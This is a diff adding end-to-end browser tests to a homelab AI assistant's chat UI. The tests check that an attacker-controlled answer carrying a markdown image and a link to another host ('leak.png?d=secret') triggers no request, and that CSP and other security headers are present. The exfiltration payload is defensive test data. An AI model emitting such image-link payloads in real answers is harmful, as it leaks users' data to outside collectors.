@@ -2,6 +2,7 @@
 // served by nginx in front of the real four services on the builtin model.
 //   node e2e/chat.e2e.mjs <ui-url> <api-key> <output-dir>
 import { mkdirSync } from "node:fs";
+import { createServer } from "node:http";
 import { chromium } from "playwright-core";
 
 const [url, apiKey, outDir = "test-output/browser"] = process.argv.slice(2);
@@ -107,6 +108,62 @@ await check("the API docs at /docs show the gateway's OpenAPI document", async (
   await docs.getByText("/chat/stream").first().waitFor({ timeout: 15000 });
   await docs.getByText("/conversations/{id}").first().waitFor();
   await docs.close();
+});
+
+await check("an answer with an image or link to another host sends no request there", async () => {
+  // A listener on loopback stands for any other host: a LAN device or a collector of leaked data.
+  const hits = [];
+  const listener = createServer((req, res) => {
+    hits.push(req.url);
+    res.writeHead(200, { "Content-Type": "image/png" });
+    res.end();
+  });
+  await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
+  const target = `http://127.0.0.1:${listener.address().port}`;
+  const leak = `Health check output: ![status](${target}/leak.png?d=secret) and [details](${target}/page)`;
+  const tab = await browser.newPage();
+  const violations = [];
+  tab.on("console", (m) => m.text().includes("Content Security Policy") && violations.push(m.text()));
+  await tab.addInitScript((key) => localStorage.setItem("homelab-assistant.api-key", key), apiKey);
+  // The answer comes from the server as usual; only its text is the attacker's.
+  await tab.route("**/api/chat/stream", (route) =>
+    route.fulfill({
+      status: 200,
+      headers: { "Content-Type": "text/event-stream" },
+      body:
+        `event: message\ndata: ${JSON.stringify({ text: leak })}\n\n` +
+        `event: done\ndata: ${JSON.stringify({ message: leak, conversation_id: "leak-test", tool_calls_made: [] })}\n\n`,
+    }),
+  );
+  await tab.goto(url);
+  await tab.getByLabel("Message").fill("Is the web container healthy?");
+  await tab.keyboard.press("Enter");
+  await tab.locator('[data-role="assistant"]:not([data-live])').last().waitFor({ timeout: 10000 });
+  // The browser would fetch a rendered image at once; give it time to try, and a CSP-blocked
+  // image injected directly must not reach the listener either.
+  await tab.evaluate((src) => {
+    const img = document.createElement("img");
+    img.src = src;
+    document.body.appendChild(img);
+  }, `${target}/injected.png`);
+  await tab.waitForTimeout(1000);
+  const text = await tab.locator('[data-role="assistant"]').last().innerText();
+  await tab.close();
+  await new Promise((resolve) => listener.close(resolve));
+  assert(hits.length === 0, `the browser requested ${hits.join(", ")}`);
+  assert(text.includes(`${target}/leak.png?d=secret`), `the image address is not shown as text: ${text}`);
+  assert(text.includes(`(${target}/page)`), `the link target is not shown: ${text}`);
+  assert(violations.length > 0, "the injected image was not stopped by the Content-Security-Policy");
+});
+
+await check("every response of the web UI carries the security headers", async () => {
+  for (const path of ["/", "/index.html", "/docs/", "/api/health"]) {
+    const response = await fetch(new URL(path, url));
+    const csp = response.headers.get("content-security-policy") ?? "";
+    assert(csp.includes("default-src 'self'") && csp.includes("frame-ancestors 'none'") && csp.includes("base-uri 'none'"), `${path}: CSP ${csp}`);
+    assert(response.headers.get("x-content-type-options") === "nosniff", `${path}: no nosniff`);
+    assert(response.headers.get("referrer-policy") === "no-referrer", `${path}: no Referrer-Policy`);
+  }
 });
 
 await browser.close();
